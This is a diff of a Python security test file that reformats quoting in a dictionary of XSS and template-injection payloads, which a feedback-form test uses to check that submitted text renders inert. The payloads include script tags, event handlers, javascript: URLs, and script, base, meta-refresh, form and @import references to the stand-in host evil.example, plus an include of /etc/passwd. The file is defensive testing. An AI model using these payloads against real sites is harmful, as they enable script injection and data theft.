@@ -19,17 +19,17 @@ from qconf.review.export import corrections_of
 MARKUP = {
     "script": "<script>alert(1)</script>",
     "closing tags": "</textarea></title></style></script><script src=//evil.example/x.js></script>",
-    "attribute": "\" autofocus onfocus=alert(1) x=\"",
+    "attribute": '" autofocus onfocus=alert(1) x="',
     "apostrophe": "' onmouseover='alert(1)",
     "picture": "<img src=x onerror=alert(1)>",
     "svg": "<svg/onload=alert(1)><animate onbegin=alert(1)>",
-    "math": "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
-    "link": "<a href=\"javascript:alert(1)\">x</a><base href=//evil.example/>",
-    "refresh": "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
+    "math": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
+    "link": '<a href="javascript:alert(1)">x</a><base href=//evil.example/>',
+    "refresh": '<meta http-equiv=refresh content="0;url=//evil.example">',
     "form": "<form action=//evil.example><input name=form_token>",
     "style": "<style>@import '//evil.example'</style><b style=\"x:y\">",
     "template": "{{ 70001 * 3 }}{% include '/etc/passwd' %}${70001*3}<%= 70001*3 %>",
-    "comment": "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
+    "comment": '<!--<img src="--><img src=x onerror=alert(1)//">',
     "cdata": "<![CDATA[<script>alert(1)</script>]]>",
     "entities": "&lt;script&gt;alert(1)&lt;/script&gt;&#60;script&#62;",
     "wide": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
@@ -89,7 +89,11 @@ def test_what_is_said_of_an_estimate_is_text(target: Target, text: str) -> None:
     sent = target.send_form(f"/estimates/{name}/feedback", **form)
     assert sent.status == 303, sent.text[:500]
     inert(target.page(sent["location"].partition("#")[0]), text)
-    inert(target.send_form(f"/estimates/{name}/feedback", **{**form, "reason": text, "own_value": text}))
+    inert(
+        target.send_form(
+            f"/estimates/{name}/feedback", **{**form, "reason": text, "own_value": text}
+        )
+    )
     inert(target.page("/summary"))
     inert(target.page("/summary?by=zone"))
 
